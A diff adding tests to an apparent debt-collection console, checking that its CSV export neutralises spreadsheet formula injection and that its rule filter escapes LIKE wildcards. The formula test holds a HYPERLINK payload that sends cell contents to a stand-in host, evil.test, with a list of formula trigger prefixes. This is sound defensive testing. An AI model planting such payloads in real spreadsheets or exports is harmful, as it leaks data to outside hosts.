@@ -8,8 +8,11 @@ import io
 import re
 from datetime import timedelta
 
+import pytest
 from fastapi.testclient import TestClient
+from sqlalchemy import update
 
+from outreach.db.models import Account, Debtor, Message
 from outreach.runtime import Runtime
 from tests.console_helpers import add_messages
 from tests.factories import add_debtor
@@ -106,3 +109,48 @@ def test_the_csv_export_streams_the_filtered_set_masked(
     assert len(rows) == 2 and {r["state"] for r in rows} == {"blocked"}
     assert rows[0]["rules"] == "F6" and rows[0]["to"] == "********0143"
     assert "+12125550143" not in response.text and "4000123412" not in response.text
+
+
+# Each way a spreadsheet may start a formula (OWASP CSV Injection), and a full-width sign
+# and one behind spaces, as imported ids and texts could carry them.
+FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "  ="]
+TRIGGERS = set("=+-@\t\r\n\uff1d")
+
+
+@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
+def test_no_cell_of_the_csv_export_can_start_a_formula(
+    console: tuple[Runtime, TestClient, str], prefix: str
+) -> None:
+    runtime, client, _ = console
+    payload = prefix + 'HYPERLINK("https://evil.test/?"&A1,"Pay")'
+    debtor, account = add_debtor(runtime.factory, runtime.clock.now())
+    (message,) = add_messages(
+        runtime, debtor, account, [{**BLOCKED, "reasons": [payload], "step": payload}]
+    )
+    with runtime.factory.begin() as session:
+        session.execute(update(Debtor).where(Debtor.id == debtor).values(external_id=payload))
+        session.execute(update(Account).where(Account.id == account).values(external_id=payload))
+        session.execute(update(Message).where(Message.id == message).values(error_message=payload))
+    response = client.get("/console/log.csv")
+    assert response.status_code == 200
+    (header, row) = list(csv.reader(io.StringIO(response.text)))
+    cells = dict(zip(header, row, strict=True))
+    for column in ("debtor", "account", "step", "reasons", "error"):
+        assert cells[column] == "'" + payload, column
+    assert cells["id"] == str(message) and cells["to"] == "********0143"
+    assert not [c for c in row if c[:1] in TRIGGERS or c.lstrip()[:1] in TRIGGERS]
+
+
+def test_the_rule_filter_matches_the_rule_id_exactly_underscore_and_all(
+    console: tuple[Runtime, TestClient, str],
+) -> None:
+    """`_` is a LIKE wildcard: F_1 must not find a message blocked by FX1."""
+    runtime, client, _ = console
+    debtor, account = add_debtor(runtime.factory, runtime.clock.now())
+    underscored, other = add_messages(
+        runtime, debtor, account, [{**BLOCKED, "rules": ["F_1"]}, {**BLOCKED, "rules": ["FX1"]}]
+    )
+    assert _ids(client.get("/console/log?rule=F_1").text) == [underscored]
+    assert _ids(client.get("/console/log?rule=FX1").text) == [other]
+    rows = list(csv.DictReader(io.StringIO(client.get("/console/log.csv?rule=F_1").text)))
+    assert [int(r["id"]) for r in rows] == [underscored]
